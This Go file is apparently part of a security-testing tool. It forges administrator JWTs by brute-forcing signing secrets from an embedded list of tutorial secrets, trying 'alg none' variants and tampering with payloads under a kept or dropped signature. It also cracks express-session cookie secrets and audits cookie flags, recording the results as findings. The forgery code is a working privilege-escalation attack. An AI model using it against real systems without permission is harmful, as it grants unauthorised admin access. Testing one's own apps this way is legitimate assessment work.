// Copyright The Panoply Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"time"
)

// secrets are the signing secrets of tutorials, one per line.
//
//go:embed secrets.txt
var secrets string

// tokens reads the token of an ordinary user, tries to forge an
// administrator's, and looks at the flags of the cookies.
func tokens(ctx context.Context, c *client, r *Result) error {
	m, err := c.join(ctx)
	r.Worked = err == nil
	if err == nil {
		forge(ctx, c, r, m.token)
	}
	page := c.do(ctx, get("/"))
	judgeCookies(r, "GET /", (&http.Response{Header: page.header}).Cookies(), c.base.Scheme == "https")
	judgeCookies(r, "POST /api/login", m.cookies, c.base.Scheme == "https")
	return err
}

// forge makes tokens for an administrator out of that of an ordinary user.
func forge(ctx context.Context, c *client, r *Result, real string) {
	t, ok := parseToken(real)
	if !ok {
		r.note("the token is no JWT: nothing to read or to forge")
		return
	}
	if _, bounded := t.claims["exp"].(float64); !bounded {
		r.prove("the token has no exp: who steals it keeps it")
	}
	for _, f := range t.forgeries(r) {
		if c.isAdmin(ctx, f.token) {
			r.prove("a forged token reads GET /api/admin/users: %s", f.name)
		}
	}
}

// judgeCookies looks at the flags of the cookies that an answer sets. Cookies
// against CSRF are meant to be read by scripts.
func judgeCookies(r *Result, where string, cookies []*http.Cookie, https bool) {
	for _, cookie := range cookies {
		name := strings.ToLower(cookie.Name)
		if cookie.MaxAge < 0 || cookie.Value == "" || strings.Contains(name, "csrf") || strings.Contains(name, "xsrf") {
			continue
		}
		if !cookie.HttpOnly {
			r.prove("%s: cookie %s without HttpOnly: an injected script can read it", where, cookie.Name)
		}
		if cookie.SameSite != http.SameSiteStrictMode && cookie.SameSite != http.SameSiteLaxMode {
			r.prove("%s: cookie %s without SameSite: other sites can send requests with it", where, cookie.Name)
		}
		if https && !cookie.Secure {
			r.prove("%s: cookie %s without Secure: it is also sent without TLS", where, cookie.Name)
		}
		if cookie.MaxAge == 0 && cookie.Expires.IsZero() {
			r.note("%s: cookie %s without Max-Age", where, cookie.Name)
		}
		if secret := cookieSecret(cookie.Value); secret != "" {
			r.note("%s: cookie %s is signed with the tutorial secret %q", where, cookie.Name, secret)
		}
	}
}

// cookieSecret returns the secret that signed a cookie of express-session, if
// it is on the list, or "".
func cookieSecret(value string) string {
	value, _ = url.QueryUnescape(value)
	signed, ok := strings.CutPrefix(value, "s:")
	id, signature, dot := strings.Cut(signed, ".")
	if !ok || !dot {
		return ""
	}
	return guessSecret(func(secret string) bool {
		return base64.RawStdEncoding.EncodeToString(sign(id, secret)) == signature
	})
}

// guessSecret returns the first secret of the list that fits, or "".
func guessSecret(fits func(secret string) bool) string {
	list := strings.Split(strings.TrimSpace(secrets), "\n")
	if i := slices.IndexFunc(list, fits); i >= 0 {
		return list[i]
	}
	return ""
}

// token is the JWT of the ordinary user, taken apart.
type token struct {
	header    map[string]any
	claims    map[string]any
	signed    string // header and payload, as signed
	signature string
}

// parseToken takes a JWT apart without verifying it.
func parseToken(text string) (t token, ok bool) {
	parts := strings.Split(text, ".")
	if len(parts) != 3 {
		return t, false
	}
	t.signed, t.signature = parts[0]+"."+parts[1], parts[2]
	t.header, t.claims = readObject(parts[0]), readObject(parts[1])
	return t, t.header != nil && t.claims != nil
}

// readObject decodes a header or a payload. It returns nil for anything else.
func readObject(part string) (value map[string]any) {
	raw, err := base64.RawURLEncoding.DecodeString(part)
	if err != nil || json.Unmarshal(raw, &value) != nil {
		return nil
	}
	return value
}

// forgery is a token of our own making.
type forgery struct {
	name  string
	token string
}

// forgeries returns tokens for an administrator. When the secret of the real
// token can be guessed they are signed with it. Otherwise they are signed with
// every secret of the list: a gateway may have signed the token anew and still
// pass on one that is signed with the app's own secret.
func (t token) forgeries(r *Result) (list []forgery) {
	admin := maps.Clone(t.claims)
	admin["role"] = "admin"
	bounded := maps.Clone(admin)
	bounded["exp"] = time.Now().Add(time.Hour).Unix()

	secret := guessSecret(func(secret string) bool { return encode(sign(t.signed, secret)) == t.signature })
	if secret != "" {
		r.note("the token's secret was guessed without asking the server: %q", secret)
		unbounded := maps.Clone(admin)
		delete(unbounded, "exp")
		list = append(list,
			forgery{"signed with the guessed secret, no exp", signedToken(unbounded, secret)},
			forgery{"signed with the guessed secret, with exp", signedToken(bounded, secret)})
	} else {
		for secret := range strings.Lines(secrets) {
			secret = strings.TrimSpace(secret)
			list = append(list, forgery{"signed with " + secret, signedToken(bounded, secret)})
		}
	}
	for _, algorithm := range []string{"none", "None", "NONE"} {
		header := map[string]any{"alg": algorithm, "typ": "JWT"}
		list = append(list, forgery{"alg " + algorithm, writeObject(header) + "." + writeObject(bounded) + "."})
	}
	original := writeObject(t.header) + "." + writeObject(admin)
	return append(list,
		forgery{"changed payload under the real signature", original + "." + t.signature},
		forgery{"empty signature", original + "."},
		forgery{"no signature", original})
}

// signedToken returns an HS256 token.
func signedToken(claims map[string]any, secret string) string {
	signed := writeObject(map[string]any{"alg": "HS256", "typ": "JWT"}) + "." + writeObject(claims)
	return signed + "." + encode(sign(signed, secret))
}

// writeObject encodes a header or a payload.
func writeObject(value map[string]any) string {
	raw, _ := json.Marshal(value) // It came from JSON.
	return encode(raw)
}

func encode(raw []byte) string { return base64.RawURLEncoding.EncodeToString(raw) }

func sign(text, secret string) []byte {
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(text))
	return mac.Sum(nil)
}
